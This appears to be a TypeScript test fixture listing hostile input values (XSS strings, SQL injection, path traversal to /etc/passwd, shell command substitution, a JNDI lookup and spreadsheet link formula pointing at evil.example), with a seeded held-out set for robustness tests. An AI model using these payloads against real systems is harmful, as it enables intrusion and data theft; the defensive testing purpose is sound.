/**
 * Values that systems stumble over, by what is wrong with them, written for these tests. A share of each kind, chosen
 * by a seed, is held out: it is tried only in the last test, so that nothing is built to pass just the known ones.
 */
export type HostileKind =
  | 'no text can hold it'
  | 'does not read as it is stored'
  | 'looks like code'
  | 'looks like a query'
  | 'looks like a path'
  | 'looks like a number'
  | 'is a word of a language'
  | 'is an unusual letter'
  | 'is far too long'

export type HostileValue = { kind: HostileKind; value: string; isHeldOut: boolean }

const bidi = ['\u202a', '\u202b', '\u202c', '\u202d', '\u202e', '\u2066', '\u2067', '\u2068', '\u2069']
const controls = ['\u0001', '\u0007', '\b', '\u000b', '\f', '\u001b[31m', '\u007f', '\u0085', '\u009b']

const values: Readonly<Record<HostileKind, readonly string[]>> = {
  'no text can hold it': [
    '\0',
    'Nena\0',
    '\0\0x',
    'a\ud800',
    '\udc00b',
    '\ude00\ud83d',
    `${'x'.repeat(99)}\ud83d`,
  ],
  'does not read as it is stored': [
    ...bidi.map((mark) => `Nena${mark}gpj.exe`),
    ...controls.map((control) => `Nena${control}x`),
    '\ufeffNena',
  ],
  'looks like code': [
    '<script>alert(1)</script>',
    '"><svg/onload=alert(1)>',
    "' onfocus=alert(1) autofocus '",
    'javascript:alert(1)',
    '{{7*7}}<%= 7*7 %>',
    ['$', '{jndi:ldap://evil.example/x}'].join(''),
    '=HYPERLINK("https://evil.example","x")',
    '@SUM(1+1)*cmd|x',
    '`id`$(id);id|id',
    '%s%n%x%d',
    ']]><!--',
  ],
  'looks like a query': [
    "'; drop table mn_businesses; --",
    "' or '1'='1",
    'eq.x,or(id.gt.0)',
    'a,b)',
    '*%_\\',
    '"quoted","comma"',
    '!|&<->()*:',
    '{1,2',
    '["a"',
  ],
  'looks like a path': [
    '../../etc/passwd',
    '%2e%2e%2fsecret',
    '..%252f..%252f',
    'C:\\con',
    '\\\\host\\share',
    'file:///etc/passwd',
    '/dev/null',
    'nul.txt',
    'index.html',
  ],
  'looks like a number': ['1e999', '-0', 'NaN', 'Infinity', '0x7fffffff', '9'.repeat(400), '1_000', '٣', '½'],
  'is a word of a language': [
    'null',
    'undefined',
    'true',
    '__proto__',
    'constructor',
    'toString',
    'hasOwnProperty',
    'None',
  ],
  'is an unusual letter': [
    `Z${'\u0301'.repeat(60)}`,
    '\u200b\u200d\u2060\u00ad',
    '\u00a0\u3000\u2003',
    '\u2028\u2029',
    '👩‍👩‍👧‍👦🏳️‍🌈',
    '\ufffe\uffff',
    'ﷺ',
    'ı̇ßŒ',
    '田中さん مرحبا שלום',
    '\u{1d4d0}\u{1f1f5}\u{1f1ed}',
  ],
  'is far too long': ['x'.repeat(20_000), '😀'.repeat(5000), 'a b '.repeat(5000), '%00'.repeat(5000)],
}

const seed = Number(process.env['SUKI_SEED'] ?? 14)

/** A number from 0 to 1 that follows from the seed and a place in the table. */
function share(index: number): number {
  const mixed = Math.imul(index + 1, 2654435761) ^ Math.imul(seed + 1, 40503)
  return ((mixed ^ (mixed >>> 15)) >>> 0) / 2 ** 32
}

const kinds = Object.entries(values) as [HostileKind, readonly string[]][]

export const hostileValues: readonly HostileValue[] = kinds
  .flatMap(([kind, list]) => list.map((value) => ({ kind, value })))
  .map((entry, index) => ({ ...entry, isHeldOut: share(index) < 0.25 }))

/** Names whose slugs other things have: files, folders, devices. */
export const reservedNames = [
  ...['index', 'default', '404', '500', 'robots', 'sitemap', 'favicon'],
  ...['con', 'prn', 'aux', 'nul', 'com1', 'com9', 'lpt1', 'lpt9', 'conin$', 'conout$'],
  ...['CON', 'Nul', 'Aux.', 'index ', '4.0.4', 'nul...', 'R.O.B.O.T.S.', '-index-'],
]
